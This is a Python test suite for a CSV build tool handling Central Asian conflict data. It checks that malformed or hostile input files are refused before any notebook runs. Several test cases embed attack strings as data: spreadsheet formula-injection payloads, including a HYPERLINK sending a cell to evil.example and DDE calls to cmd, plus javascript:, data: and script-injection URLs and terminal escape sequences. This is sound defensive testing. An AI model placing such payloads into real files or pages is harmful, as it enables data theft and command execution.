"""Hostile data: each case mutates a copy of the real data/ and runs `borderland build`.

Every case must be refused before any notebook runs (exit status 2), with a message that
names the file, the line, the column (where the problem lies in one cell) and the rule,
and no report may be produced: the previous report in report/ stays byte-identical and no
staging folder or executed notebook is left behind. Problems that concern a whole line
(a record with the wrong number of fields, an empty line) or a whole file (its size, a
byte-order mark, no header) name file, line and rule, and no column.

These cases add to the foundation's own (tests/test_validate.py): they go through the
build command, and cover encodings, quoting, sizes, formula injection, look-alike
characters, dates in other formats and the rules across rows and tables.
"""
from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from conftest import ONLY, Project, leftovers, tree_digest

PLACEHOLDER = "XQXPLACEHOLDERXQX"


@dataclass(frozen=True)
class Where:
    """Where the refusal must point: file, line (None: the whole file), column, rule."""

    file: str
    line: int | None
    column: str | None
    rule: str
    only: bool = False  # the case must give exactly this one problem (no cascade)


# --------------------------------------------------------------------------- mutations


def row_index(project: Project, table: str, **match: str) -> int:
    """Index of the first data row whose cells equal `match` ('*' = any non-empty value)."""
    header, rows = project.read_table(table)
    for i, row in enumerate(rows):
        if all((row[header.index(k)] != "") if v == "*" else row[header.index(k)] == v
               for k, v in match.items()):
            return i
    raise LookupError(f"{table}: no row with {match}")


def set_cells(project: Project, table: str, row: int, **values: str) -> int:
    """Set cells of one row; return the line that row starts on."""
    header, rows = project.read_table(table)
    for column, value in values.items():
        rows[row][header.index(column)] = value
    return project.write_table(table, header, rows)[row]


def set_bytes(project: Project, table: str, row: int, column: str, raw: bytes) -> int:
    """Put raw bytes (not necessarily UTF-8) into one cell; return the row's line."""
    line = set_cells(project, table, row, **{column: PLACEHOLDER})
    path = project.data / f"{table}.csv"
    path.write_bytes(path.read_bytes().replace(PLACEHOLDER.encode(), raw, 1))
    return line


def edit_line(project: Project, table: str, row: int, edit: Callable[[str], str]) -> int:
    """Rewrite the raw text of one record's line; return that line's number."""
    header, rows = project.read_table(table)
    line = project.write_table(table, header, rows)[row]
    path = project.data / f"{table}.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[line - 1] = edit(lines[line - 1])
    path.write_text("\n".join(lines), encoding="utf-8")
    return line


def append_rows(project: Project, table: str, new_rows: list[list[str]]) -> list[int]:
    header, rows = project.read_table(table)
    return project.write_table(table, header, rows + new_rows)[len(rows):]


def copy_of_row(project: Project, table: str, row: int, **changes: str) -> list[str]:
    header, rows = project.read_table(table)
    copy = list(rows[row])
    for column, value in changes.items():
        copy[header.index(column)] = value
    return copy


# --------------------------------------------------------------------------- the cases
# Each case: (id, function(project) -> Where). Rows are picked by content, not position,
# where the rule needs a particular kind of row.


def _encoding(table, column, raw, row=3):
    def case(p):
        return Where(f"{table}.csv", set_bytes(p, table, row, column, raw), column, "encoding",
                     only=True)
    return case


def _cell(table, column, value, rule, only=False, **match):
    def case(p):
        row = row_index(p, table, **match) if match else 4
        return Where(f"{table}.csv", set_cells(p, table, row, **{column: value}), column, rule,
                     only=only)
    return case


def _utf16_file(p):
    path = p.data / "events.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    return Where("events.csv", 1, None, "encoding", only=True)


def _bom(p):
    path = p.data / "milestones.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    return Where("milestones.csv", 1, None, "encoding", only=True)


def _open_quote_mid_file(p):
    # A quote opened at the start of a field and never closed on its line.
    row = row_index(p, "events", place="Khorog")
    line = edit_line(p, "events", row, lambda text: text.replace(",Khorog,", ',"Khorog,', 1))
    return Where("events.csv", line, "place", "csv-syntax", only=True)


def _open_quote_to_end(p):
    # The last record's last field opens a quote that nothing closes: the reader hits the
    # end of the file inside it.
    _header, rows = p.read_table("milestones")
    line = set_bytes(p, "milestones", len(rows) - 1, "note", b'"an unfinished note')
    return Where("milestones.csv", line, "note", "csv-syntax", only=True)


def _text_after_closing_quote(p):
    row = row_index(p, "casualty_claims", claimant_type="official")
    line = edit_line(p, "casualty_claims", row,
                     lambda text: text.replace(",official,", ',"official"x,', 1))
    return Where("casualty_claims.csv", line, "claimant_type", "csv-syntax", only=True)


def _extra_field(p):
    line = edit_line(p, "milestones", 10, lambda text: text.replace(",", ",,", 1))
    return Where("milestones.csv", line, None, "field-count")


def _missing_field(p):
    line = edit_line(p, "events", 5, lambda text: text.replace(",", "", 1))
    return Where("events.csv", line, None, "field-count")


def _blank_line(p):
    line = edit_line(p, "deployments", 20, lambda text: "\n" + text)
    return Where("deployments.csv", line, None, "no-blank-rows", only=True)


def _empty_file(p):
    (p.data / "sources.csv").write_bytes(b"")
    return Where("sources.csv", 1, None, "header", only=True)


def _renamed_header(p):
    path = p.data / "casualty_claims.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(",best,", ",Best,", 1), encoding="utf-8")
    return Where("casualty_claims.csv", 1, "best", "header")


def _duplicated_header(p):
    path = p.data / "deployments.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(",location,", ",force,", 1), encoding="utf-8")
    return Where("deployments.csv", 1, "force", "header")


def _fifty_megabytes(p):
    # A real-looking 50 MB table: the header and the real rows over and over. It must be
    # refused by its size before it is read, not parsed for minutes.
    path = p.data / "casualty_claims.csv"
    header, *rows = path.read_text(encoding="utf-8").split("\n", 1)
    body = rows[0]
    copies = 50_000_000 // len(body.encode()) + 1
    with path.open("w", encoding="utf-8") as fh:
        fh.write(header + "\n")
        for _ in range(copies):
            fh.write(body)
    assert path.stat().st_size >= 50_000_000
    return Where("casualty_claims.csv", None, None, "file-size", only=True)


def _duplicated_claim(p):
    _header, rows = p.read_table("casualty_claims")
    last_id = max(r[0] for r in rows)
    twin = copy_of_row(p, "casualty_claims", 30, claim_id=f"c{int(last_id[1:]) + 1:04d}")
    line = append_rows(p, "casualty_claims", [twin])[0]
    return Where("casualty_claims.csv", line, "claim_id", "duplicate", only=True)


def _duplicated_key(p):
    _header, rows = p.read_table("deployments")
    twin = copy_of_row(p, "deployments", 7, best="12345", low="", high="", qualifier="exact")
    twin[0] = rows[3][0]
    line = append_rows(p, "deployments", [twin])[0]
    return Where("deployments.csv", line, "deployment_id", "unique")


def _self_via(p):
    row = row_index(p, "sources", via="*")
    sid = p.read_table("sources")[1][row][0]
    return Where("sources.csv", set_cells(p, "sources", row, via=sid), "via", "via-not-self")


def _via_loop(p):
    # Two outlets each said to be read "via" the other: no document was actually read.
    _header, rows = p.read_table("sources")
    header = p.read_table("sources")[0]
    a = row_index(p, "sources", via="*")
    b = next(i for i, r in enumerate(rows) if r[header.index("via")] and i != a
             and r[header.index("via")] == rows[a][header.index("via")])
    ida, idb = rows[a][0], rows[b][0]
    set_cells(p, "sources", a, via=idb)
    line = set_cells(p, "sources", b, via=ida)
    return Where("sources.csv", line, "via", "via-chain")


def _event_ends_before_start(p):
    row = row_index(p, "events", event_id="rasht-operation-2010-2011")
    return Where("events.csv", set_cells(p, "events", row, end_date="2009-12"), "end_date",
                 "end-after-start", only=True)


def _span_ends_before_start(p):
    row = row_index(p, "milestones", end_date="*")
    return Where("milestones.csv", set_cells(p, "milestones", row, end_date="1991"),
                 "end_date", "end-after-start", only=True)


def _part_of_itself(p):
    row = row_index(p, "casualty_claims", part_of="*")
    cid = p.read_table("casualty_claims")[1][row][0]
    return Where("casualty_claims.csv", set_cells(p, "casualty_claims", row, part_of=cid),
                 "part_of", "part-of")


def _part_of_other_event(p):
    header, rows = p.read_table("casualty_claims")
    row = row_index(p, "casualty_claims", part_of="*")
    event = rows[row][header.index("event_id")]
    other = next(r[0] for r in rows if r[header.index("event_id")] != event)
    return Where("casualty_claims.csv", set_cells(p, "casualty_claims", row, part_of=other),
                 "part_of", "part-of")


def _relay_names_itself(p):
    row = row_index(p, "deployments")
    sid = p.read_table("deployments")[1][row][p.read_table("deployments")[0].index("source_id")]
    return Where("deployments.csv", set_cells(p, "deployments", row, original_source_id=sid),
                 "original_source_id", "relay")


def _claim_after_its_source(p):
    row = row_index(p, "casualty_claims", source_id="rferl-2012-07-25")
    return Where("casualty_claims.csv",
                 set_cells(p, "casualty_claims", row, reported_on="2013-01-01"),
                 "reported_on", "not-after-source", only=True)


def _lookalike_reference(p):
    # 'khorog-2012-07' with a Cyrillic 'о': looks the same, is another id.
    row = row_index(p, "casualty_claims", event_id="khorog-2012-07")
    line = set_cells(p, "casualty_claims", row, event_id="kh\u043erog-2012-07")
    return Where("casualty_claims.csv", line, "event_id", "slug")


CASES: dict[str, Callable[[Project], Where]] = {
    # encodings and bytes
    "latin1-byte": _encoding("casualty_claims", "claimant", "Rytövuori".encode("latin-1")),
    "cp1251-cyrillic": _encoding("events", "place", "Хорог".encode("cp1251")),
    "overlong-utf8": _encoding("milestones", "quote", b"the \xc0\xaf slash"),
    "truncated-utf8": _encoding("sources", "title", b"Dushanbe \xd0"),
    "utf16-file": _utf16_file,
    "byte-order-mark": _bom,
    "nul-byte": _cell("events", "summary", "Khorog\x00 clashes", "text", only=True),
    "ansi-escape": _cell("casualty_claims", "claimant", "\x1b[2J\x1b[31mMinistry", "text",
                         only=True, claim_id="c0001"),
    "c1-control": _cell("deployments", "location", "Khorog\x9b31m", "text", only=True),
    "bidi-override": _cell("casualty_claims", "claimant",
                           "Ministry \u202edellik 0001\u202c", "text", only=True,
                           claim_id="c0001"),
    # CSV structure and size
    "open-quote-mid-file": _open_quote_mid_file,
    "open-quote-to-end": _open_quote_to_end,
    "text-after-closing-quote": _text_after_closing_quote,
    "extra-field": _extra_field,
    "missing-field": _missing_field,
    "blank-line": _blank_line,
    "empty-file": _empty_file,
    "renamed-header": _renamed_header,
    "duplicated-header": _duplicated_header,
    "fifty-megabytes": _fifty_megabytes,
    "ten-thousand-chars": _cell("events", "summary", "x" * 10_000, "length", only=True),
    # formula injection (a CSV opened in a spreadsheet runs these)
    "formula-hyperlink": _cell("casualty_claims", "claimant",
                               '=HYPERLINK("http://evil.example/?"&A1,"Ministry")',
                               "no-formula", only=True, claim_id="c0001"),
    "formula-plus-dde": _cell("deployments", "location", "+cmd|' /C calc'!A0", "no-formula",
                              only=True),
    "formula-minus-dde": _cell("sources", "title", "-2+3+cmd|' /C calc'!A0", "no-formula",
                               only=True),
    "formula-at": _cell("milestones", "description", "@SUM(1+1)*cmd|' /C calc'!A0",
                        "no-formula", only=True),
    # counts and numbers
    "negative-count": _cell("deployments", "best", "-5", "count", qualifier="exact"),
    "fractional-count": _cell("casualty_claims", "high", "2.5", "count", qualifier="up_to"),
    "count-thousands-sep": _cell("casualty_claims", "best", "60,000", "count",
                                 qualifier="exact"),
    "count-exponent": _cell("deployments", "low", "1e3", "count", qualifier="more_than"),
    "count-fullwidth-digits": _cell("casualty_claims", "best", "\uff16\uff10", "count",
                                    qualifier="exact"),
    "count-arabic-digits": _cell("deployments", "best", "\u0668\u0660\u0660", "count",
                                 qualifier="about"),
    # dates in other formats
    "date-dmy-dots": _cell("milestones", "stated_on", "24.07.2012", "date"),
    "date-us-slashes": _cell("deployments", "date", "07/24/2012", "date"),
    "date-words": _cell("events", "start_date", "July 2012", "date"),
    "date-compact": _cell("casualty_claims", "reported_on", "20120724", "date"),
    "date-with-time": _cell("sources", "published", "2012-07-25T10:00:00Z", "date",
                            published="2012-07-25"),
    "date-unpadded": _cell("events", "end_date", "2012-7-4", "date", end_date="*"),
    "date-february-30": _cell("casualty_claims", "reported_on", "2012-02-30", "date"),
    "date-fullwidth": _cell("milestones", "date", "\uff12\uff10\uff11\uff12", "date"),
    "date-precision-mismatch": _cell("deployments", "date_precision", "day", "precision",
                                     date_precision="month"),
    # ids
    "id-with-space": _cell("events", "event_id", "khorog 2012-07", "slug",
                           event_id="khorog-2012-07"),
    "id-lookalike-reference": _lookalike_reference,
    "id-fullwidth-digits": _cell("casualty_claims", "claim_id", "c\uff10\uff10\uff10\uff11",
                                 "id"),
    "id-zero-width-space": _cell("deployments", "event_id", "khorog-2012-07\u200b", "slug",
                                 event_id="khorog-2012-07"),
    "id-uppercase": _cell("milestones", "subject", "Rogun", "slug", subject="rogun"),
    # rules across rows and tables
    "self-via": _self_via,
    "via-loop": _via_loop,
    "event-ends-before-start": _event_ends_before_start,
    "span-ends-before-start": _span_ends_before_start,
    "duplicated-claim": _duplicated_claim,
    "duplicated-key": _duplicated_key,
    "part-of-itself": _part_of_itself,
    "part-of-other-event": _part_of_other_event,
    "relay-names-itself": _relay_names_itself,
    "claim-after-its-source": _claim_after_its_source,
    "enum-trailing-space": _cell("casualty_claims", "outcome", "killed ", "text"),
    "javascript-url": _cell("sources", "url", "javascript:alert(document.domain)", "url",
                            url="*"),
    "data-url": _cell("sources", "url", "data:text/html,<script>alert(1)</script>", "url",
                      url="*"),
    "url-breaking-out": _cell("sources", "url", 'https://example.org/"><script>x()</script>',
                              "url", url="*"),
}


# --------------------------------------------------------------------------- the test


def fake_previous_report(project: Project) -> dict[str, str]:
    """A published report in report/ that a refused build must leave exactly as it is."""
    project.report.mkdir(exist_ok=True)
    (project.report / "index.html").write_text("<!DOCTYPE html><title>previous</title>\n")
    (project.report / "manifest.json").write_text(json.dumps({"files": {}}) + "\n")
    return tree_digest(project.report)


def problem_lines(stderr: str) -> list[str]:
    return [line.strip() for line in stderr.splitlines() if "(rule: " in line]


def assert_refused(project: Project, where: Where, code: int, stderr: str,
                   before: dict[str, str]) -> None:
    assert code == 2, f"expected exit status 2, got {code}:\n{stderr}"
    assert "no notebook was run" in stderr
    location = (f"data/{where.file}:{where.line}:" if where.line is not None
                else f"data/{where.file}:")
    if where.column:
        location += f" column {where.column}:"
    found = [line for line in problem_lines(stderr)
             if line.startswith(location) and line.endswith(f"(rule: {where.rule})")]
    assert found, (f"no problem at '{location}' with rule {where.rule}; got:\n"
                   + "\n".join(problem_lines(stderr)[:20]))
    line = found[0]
    if not where.column:  # a whole line or file: no column is named
        assert not line[len(location):].lstrip().startswith("column "), line
    assert "\x1b" not in stderr and "\x00" not in stderr, "raw control bytes echoed"
    assert len(line) < 400, "the message should quote at most a short part of the value"
    if where.only:
        assert len(problem_lines(stderr)) == 1, \
            "one problem expected, got:\n" + "\n".join(problem_lines(stderr)[:20])
    # no report produced, the previous one untouched, no kernel started
    assert tree_digest(project.report) == before
    assert leftovers(project.report) == []
    assert not (project.cache / "notebooks").exists()
    assert not (project.cache / "failed").exists()


@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_hostile_data_is_refused_before_any_notebook(project, case):
    where = CASES[case](project)
    before = fake_previous_report(project)
    code, _out, err = project.cli("build", *ONLY)
    assert_refused(project, where, code, err, before)


@pytest.mark.parametrize("case", ["latin1-byte", "formula-hyperlink", "fifty-megabytes"])
def test_the_real_command_refuses_it_too(project, case):
    """The same through the installed entry point in a fresh process."""
    where = CASES[case](project)
    before = fake_previous_report(project)
    result = project.run("build", *project.mini())
    assert_refused(project, where, result.returncode, result.stderr, before)
    validate = project.run("validate", "--data", str(project.data))
    assert validate.returncode == 2
    assert f"(rule: {where.rule})" in validate.stderr


def test_there_are_at_least_thirty_cases():
    assert len(CASES) >= 30


def test_html_and_script_in_text_fields_are_data_not_errors(project):
    """Markup in a text cell is legal data (it is escaped when shown; see test_browser)."""
    row = row_index(project, "events", place="Khorog")
    set_cells(project, "events", row, summary='<script>alert(1)</script> <img src=x onerror=alert(2)>')
    code, _out, err = project.cli("validate", "--data", str(project.data))
    assert code == 0, err


def test_case_file_mutations_keep_the_rest_valid(project):
    """The mutation helpers rewrite untouched rows byte for byte (so each case tests one thing)."""
    before = {p.name: p.read_bytes() for p in project.data.glob("*.csv")}
    for table in ("sources", "events", "casualty_claims", "deployments", "milestones"):
        header, rows = project.read_table(table)
        project.write_table(table, header, rows)
    assert {p.name: p.read_bytes() for p in project.data.glob("*.csv")} == before
